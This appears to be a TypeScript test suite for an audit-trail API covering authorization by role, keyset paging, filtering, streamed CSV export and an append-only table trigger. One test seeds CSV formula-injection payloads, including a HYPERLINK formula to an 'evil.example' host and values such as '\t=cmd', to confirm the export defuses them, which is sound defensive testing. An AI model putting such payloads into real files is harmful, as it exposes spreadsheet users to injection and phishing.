import { randomUUID } from 'node:crypto';
import { sql } from 'drizzle-orm';
import type { InjectOptions } from 'fastify';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { createOrganisation } from '../../../../tests/factories/organisation.factory.ts';
import {
  createUser,
  type SignedIn,
  signIn,
  signInWithMfaSettled,
  type TestUser,
} from '../../../../tests/factories/user.factory.ts';
import { apiCaller } from '../../../../tests/setup/api-caller.ts';
import { setUpTestApp } from '../../../../tests/setup/test-app-hooks.ts';
import type { AuditAction } from '../../../domain/audit/audit-events.ts';
import {
  AUDIT_EXPORT_COLUMNS,
  AuditEventPageSchema,
} from '../../../domain/audit/audit-query.schema.ts';
import type { Actor } from '../../../domain/authorization/permissions.ts';
import { ROLE_SIDE, ROLES, type Role } from '../../../domain/authorization/roles.ts';
import type { Organisation } from '../../../domain/organisations/organisation.schema.ts';
import { appendAuditEvent } from './audit.service.ts';

const testApp = setUpTestApp();
const call = apiCaller(testApp);

function inject(options: InjectOptions) {
  return testApp.app.inject(options);
}

function actorFor(userId: string): Actor {
  return {
    kind: 'user',
    userId,
    sessionId: randomUUID(),
    organisationId: null,
    role: 'company_admin',
    mfa: 'not_required',
    permissions: new Set(),
  };
}

interface SeedEvent {
  at: string;
  action: AuditAction;
  actorUserId: string;
  targetType: string;
  targetId: string | null;
  after?: Record<string, unknown>;
}

/** Writes events straight into an organisation's chain, in order; returns their ids. */
async function seedTrail(organisationId: string, events: readonly SeedEvent[]): Promise<number[]> {
  const ids: number[] = [];
  for (const event of events) {
    const row = await testApp.database.db.transaction((tx) =>
      appendAuditEvent(
        tx,
        {
          actor: actorFor(event.actorUserId),
          now: new Date(event.at),
          requestId: null,
          clientAddress: '192.0.2.10',
        },
        {
          action: event.action,
          targetType: event.targetType,
          targetId: event.targetId,
          organisationId,
          after: event.after ?? null,
        },
      ),
    );
    ids.push(row.id);
  }
  return ids;
}

/**
 * A member company with a company admin (audit:read) and five events:
 * e1 Jan, e2 Feb, e3 and e4 at the same instant in March, e5 April.
 */
async function organisationWithTrail() {
  const admin = await createUser(testApp.database.db, { role: 'company_admin' });
  const organisation = admin.organisation;
  const [x, y, u1, t1] = [randomUUID(), randomUUID(), randomUUID(), randomUUID()];
  const ids = await seedTrail(organisation.id, [
    {
      at: '2026-01-01T00:00:00Z',
      action: 'user.created',
      actorUserId: x,
      targetType: 'user',
      targetId: u1,
    },
    {
      at: '2026-02-01T00:00:00Z',
      action: 'membership.created',
      actorUserId: x,
      targetType: 'membership',
      targetId: u1,
    },
    {
      at: '2026-03-01T00:00:00Z',
      action: 'api_token.created',
      actorUserId: y,
      targetType: 'api_token',
      targetId: t1,
      after: { name: 'ERP' },
    },
    {
      at: '2026-03-01T00:00:00Z',
      action: 'api_token.revoked',
      actorUserId: y,
      targetType: 'api_token',
      targetId: t1,
    },
    {
      at: '2026-04-01T00:00:00Z',
      action: 'user.updated',
      actorUserId: x,
      targetType: 'user',
      targetId: u1,
      after: { displayName: 'Ana' },
    },
  ]);
  const [e1, e2, e3, e4, e5] = ids;
  if (
    e1 === undefined ||
    e2 === undefined ||
    e3 === undefined ||
    e4 === undefined ||
    e5 === undefined
  ) {
    throw new Error('seeding wrote fewer events than asked');
  }
  return { admin, organisation, x, y, u1, t1, e: { e1, e2, e3, e4, e5 } };
}

async function list(session: SignedIn | { authorization: string }, query = '') {
  const headers = 'cookie' in session ? { cookie: session.cookie } : session;
  return inject({ method: 'GET', url: `/api/v1/audit-events${query}`, headers });
}

async function idsOf(session: SignedIn, query: string): Promise<number[]> {
  const response = await list(session, query);
  expect(response.statusCode).toBe(200);
  return AuditEventPageSchema.parse(response.json()).items.map((item) => item.id);
}

/** RFC 4180 CSV into rows of cells (quoted cells, doubled quotes, line breaks in quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') {
        quoted = false;
      } else {
        cell += char;
      }
    } else if (char === '"') {
      quoted = true;
    } else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else if (char !== '\r') {
      cell += char;
    }
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** CSV rows as objects keyed by the header row. */
function csvRecords(body: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(body.replace(/^\uFEFF/, ''));
  return rows.map((cells) =>
    Object.fromEntries((header ?? []).map((name, index) => [name, cells[index] ?? ''])),
  );
}

describe('the audit viewer', () => {
  it("shows a member its own organisation's trail only, newest first, with names", async () => {
    const { admin, organisation, e } = await organisationWithTrail();
    const other = await organisationWithTrail();
    const session = await signIn(testApp.app, admin);

    const response = await list(session);
    const foreign = await list(session, `?organisationId=${other.organisation.id}`);

    expect(response.statusCode).toBe(200);
    const page = AuditEventPageSchema.parse(response.json());
    expect(page.items.map((item) => item.id)).toEqual([e.e5, e.e4, e.e3, e.e2, e.e1]);
    expect(page.nextCursor).toBeNull();
    expect(page.items[0]).toMatchObject({
      chain: organisation.id,
      seq: 5,
      organisationId: organisation.id,
      organisationName: organisation.legalName,
      action: 'user.updated',
      after: { displayName: 'Ana' },
      occurredAt: '2026-04-01T00:00:00.000Z',
      clientAddress: '192.0.2.10',
    });
    expect(page.items[0]?.prevHash).toBe(page.items[1]?.hash);
    expect(foreign.statusCode).toBe(200);
    expect(foreign.json().items).toEqual([]);
  });

  it('pages newest first with an opaque keyset cursor, and refuses a forged one', async () => {
    const { admin, e } = await organisationWithTrail();
    const session = await signIn(testApp.app, admin);

    const seen: number[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const query: string = cursor ? `?limit=2&cursor=${cursor}` : '?limit=2';
      const page = AuditEventPageSchema.parse((await list(session, query)).json());
      seen.push(...page.items.map((item) => item.id));
      cursor = page.nextCursor;
      pages += 1;
    } while (cursor !== null && pages < 10);
    const forged = await list(session, `?cursor=${Buffer.from('["x",1]').toString('base64url')}`);
    const tooMany = await list(session, '?limit=101');

    expect(pages).toBe(3);
    expect(seen).toEqual([e.e5, e.e4, e.e3, e.e2, e.e1]);
    expect(forged.statusCode).toBe(400);
    expect(forged.json().error.details.issues[0].path).toBe('querystring.cursor');
    expect(tooMany.statusCode).toBe(400);
  });

  it('filters by action, actor, target and time window', async () => {
    const { admin, y, u1, t1, e } = await organisationWithTrail();
    const session = await signIn(testApp.app, admin);

    expect(await idsOf(session, '?action=user.updated')).toEqual([e.e5]);
    expect(await idsOf(session, `?actorUserId=${y}`)).toEqual([e.e4, e.e3]);
    expect(await idsOf(session, '?targetType=user')).toEqual([e.e5, e.e1]);
    expect(await idsOf(session, `?targetId=${t1}`)).toEqual([e.e4, e.e3]);
    expect(await idsOf(session, `?targetType=membership&targetId=${u1}`)).toEqual([e.e2]);
    // from is inclusive, to exclusive; offsets are accepted.
    expect(await idsOf(session, '?from=2026-02-01T00:00:00Z&to=2026-03-01T00:00:00Z')).toEqual([
      e.e2,
    ]);
    expect(await idsOf(session, '?from=2026-02-28T19:00:00-05:00')).toEqual([e.e5, e.e4, e.e3]);

    const backwards = await list(session, '?from=2026-03-01T00:00:00Z&to=2026-02-01T00:00:00Z');
    const unknownAction = await list(session, '?action=user.teleported');
    const notATime = await list(session, '?from=yesterday');
    expect(backwards.statusCode).toBe(400);
    expect(backwards.json().error.details.issues[0].path).toBe('querystring.to');
    expect(unknownAction.statusCode).toBe(400);
    expect(notATime.statusCode).toBe(400);
  });

  it('shows audit:read:any actors every organisation and events outside any organisation', async () => {
    const first = await organisationWithTrail();
    const second = await organisationWithTrail();
    const auditor = await createUser(testApp.database.db, { role: 'regulatory_audit' });
    const session = await signInWithMfaSettled(testApp.app, testApp.database.db, auditor);
    const member = await signIn(testApp.app, first.admin);

    expect(await idsOf(session, `?organisationId=${first.organisation.id}`)).toHaveLength(5);
    expect(
      await idsOf(session, `?organisationId=${second.organisation.id}&targetId=${second.t1}`),
    ).toEqual([second.e.e4, second.e.e3]);
    expect(await idsOf(session, `?targetId=${first.t1}`)).toEqual([first.e.e4, first.e.e3]);
    // Sign-ins belong to no organisation (the system chain): only :any readers see them.
    const signIns = `?actorUserId=${first.admin.id}&action=session.signed_in`;
    expect(await idsOf(session, signIns)).toHaveLength(1);
    expect(await idsOf(member, signIns)).toEqual([]);
  });

  it('answers each role as its permissions say (authorization matrix)', async () => {
    const own = await organisationWithTrail();
    const other = await organisationWithTrail();
    const expected: Record<Role, 'own' | 'any' | 403> = {
      company_officer: 'own',
      company_admin: 'own',
      contributor: 403,
      consultant: 403,
      scss: 403,
      supervisory_scss: 'any',
      program_manager: 'any',
      regulatory_audit: 'any',
      protest_reviewer: 403,
      metrics_viewer: 403,
      administrator: 403,
    };
    const cbpOffice: Organisation = await createOrganisation(testApp.database.db, {
      kind: 'cbp_office',
      entityTypes: [],
    });

    for (const role of ROLES) {
      const expectation = expected[role];
      const user: TestUser = await createUser(testApp.database.db, {
        role,
        organisation: ROLE_SIDE[role] === 'member_company' ? own.organisation : cbpOffice,
      });
      const session = await signInWithMfaSettled(testApp.app, testApp.database.db, user);
      for (const path of ['/api/v1/audit-events', '/api/v1/audit-events/export.csv']) {
        const ownView = await call('GET', `${path}?organisationId=${own.organisation.id}`, session);
        const otherView = await call(
          'GET',
          `${path}?organisationId=${other.organisation.id}`,
          session,
        );
        const label = `${role} ${path}`;
        if (expectation === 403) {
          expect(ownView.statusCode, label).toBe(403);
          expect(otherView.statusCode, label).toBe(403);
          continue;
        }
        expect(ownView.statusCode, label).toBe(200);
        expect(otherView.statusCode, label).toBe(200);
        const count = (body: string) =>
          path.endsWith('.csv') ? csvRecords(body).length : JSON.parse(body).items.length;
        expect(count(ownView.body), label).toBe(5);
        expect(count(otherView.body), label).toBe(expectation === 'any' ? 5 : 0);
      }
    }
    const anonymous = await inject({ method: 'GET', url: '/api/v1/audit-events' });
    expect(anonymous.statusCode).toBe(401);
  });

  it("lets an API token with audit:read read its organisation's trail", async () => {
    const { admin, e } = await organisationWithTrail();
    const session = await signIn(testApp.app, admin);
    const created = await call('POST', '/api/v1/api-tokens', session, {
      name: 'SIEM',
      permissions: ['audit:read'],
      expiresInDays: 30,
    });
    const token: string = created.json().token;

    const response = await list({ authorization: `Bearer ${token}` }, '?limit=100');
    const exported = await inject({
      method: 'GET',
      url: '/api/v1/audit-events/export.csv',
      headers: { authorization: `Bearer ${token}` },
    });

    expect(response.statusCode).toBe(200);
    const ids = AuditEventPageSchema.parse(response.json()).items.map((item) => item.id);
    // The token's own creation is the newest event of the organisation.
    expect(ids.slice(1)).toEqual([e.e5, e.e4, e.e3, e.e2, e.e1]);
    expect(response.json().items[0].action).toBe('api_token.created');
    expect(exported.statusCode).toBe(200);
    expect(csvRecords(exported.body)).toHaveLength(6);
  });
});

describe('the CSV export', () => {
  it('streams the filtered trail as an attachment with a header row, newest first', async () => {
    const { admin, organisation, e } = await organisationWithTrail();
    const session = await signIn(testApp.app, admin);

    const response = await call('GET', '/api/v1/audit-events/export.csv', session);
    const filtered = await call(
      'GET',
      '/api/v1/audit-events/export.csv?action=api_token.created',
      session,
    );

    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="audit-events-\d{4}-\d{2}-\d{2}T\d{6}Z\.csv"$/,
    );
    expect(response.headers['x-export-truncated']).toBe('false');
    expect(response.body.startsWith('\uFEFF')).toBe(true);
    const [header] = parseCsv(response.body.replace(/^\uFEFF/, ''));
    expect(header).toEqual([...AUDIT_EXPORT_COLUMNS]);
    const records = csvRecords(response.body);
    expect(records.map((record) => Number(record.id))).toEqual([e.e5, e.e4, e.e3, e.e2, e.e1]);
    expect(records[0]).toMatchObject({
      occurredAt: '2026-04-01T00:00:00.000Z',
      chain: organisation.id,
      seq: '5',
      organisationName: organisation.legalName,
      action: 'user.updated',
      before: '',
    });
    expect(JSON.parse(records[0]?.after ?? '')).toEqual({ displayName: 'Ana' });
    expect(csvRecords(filtered.body).map((record) => Number(record.id))).toEqual([e.e3]);
  });

  it('streams beyond one database batch without losing or repeating a row', async () => {
    const admin = await createUser(testApp.database.db, { role: 'company_admin' });
    const count = 2100;
    // Seven events per instant, so ties straddle the 1000-row batch boundaries.
    await testApp.database.db.transaction(async (tx) => {
      for (let n = 0; n < count; n += 1) {
        await appendAuditEvent(
          tx,
          {
            actor: actorFor(admin.id),
            now: new Date(Date.UTC(2026, 5, 1) + Math.floor(n / 7) * 1000),
            requestId: null,
            clientAddress: null,
          },
          {
            action: 'user.updated',
            targetType: 'user',
            targetId: String(n),
            organisationId: admin.organisation.id,
          },
        );
      }
    });
    const session = await signIn(testApp.app, admin);

    const response = await call('GET', '/api/v1/audit-events/export.csv', session);

    const records = csvRecords(response.body);
    expect(records).toHaveLength(count);
    expect(records.map((record) => Number(record.targetId))).toEqual(
      Array.from({ length: count }, (_, index) => count - 1 - index),
    );
  });

  it('defuses spreadsheet formulas in every cell', async () => {
    const organisation = await createOrganisation(testApp.database.db, {
      legalName: `=HYPERLINK("http://evil.example/${randomUUID()}","Click")`,
    });
    const admin = await createUser(testApp.database.db, { role: 'company_admin', organisation });
    const actor = randomUUID();
    const targets = ['+1+1', '-2+3', '@SUM(A1:A9)', '\t=cmd', 'plain'];
    await seedTrail(
      organisation.id,
      targets.map((targetId) => ({
        at: '2026-05-01T00:00:00Z',
        action: 'user.updated',
        actorUserId: actor,
        targetType: '=type',
        targetId,
      })),
    );
    const session = await signIn(testApp.app, admin);

    const response = await call('GET', '/api/v1/audit-events/export.csv', session);

    const records = csvRecords(response.body);
    expect(records.map((record) => record.targetId)).toEqual([
      'plain',
      "'\t=cmd",
      "'@SUM(A1:A9)",
      "'-2+3",
      "'+1+1",
    ]);
    for (const record of records) {
      expect(record.organisationName).toBe(`'${organisation.legalName}`);
      expect(record.targetType).toBe("'=type");
    }
  });
});

describe('the audit_events table', () => {
  it('rejects UPDATE, DELETE and TRUNCATE whoever asks (append-only trigger)', async () => {
    const { organisation, e } = await organisationWithTrail();
    const db = testApp.database.db;
    const failureOf = async (statement: Promise<unknown>): Promise<string> => {
      try {
        await statement;
        return 'succeeded';
      } catch (error) {
        const cause = error instanceof Error && error.cause instanceof Error ? error.cause : error;
        return cause instanceof Error ? cause.message : String(cause);
      }
    };

    const update = await failureOf(
      db.execute(sql`update audit_events set action = 'user.created' where id = ${e.e5}`),
    );
    const remove = await failureOf(db.execute(sql`delete from audit_events where id = ${e.e1}`));
    const truncate = await failureOf(db.execute(sql`truncate audit_events`));

    expect(update).toContain('audit_events is append-only: UPDATE is not allowed');
    expect(remove).toContain('audit_events is append-only: DELETE is not allowed');
    expect(truncate).toContain('audit_events is append-only: TRUNCATE is not allowed');
    const left = z
      .object({ rows: z.array(z.object({ id: z.number(), action: z.string() })) })
      .parse(
        await db.execute(
          sql`select id::int as id, action from audit_events where chain = ${organisation.id} order by seq`,
        ),
      ).rows;
    expect(left.map((row) => row.id)).toEqual([e.e1, e.e2, e.e3, e.e4, e.e5]);
    expect(left.at(-1)?.action).toBe('user.updated');
  });
});
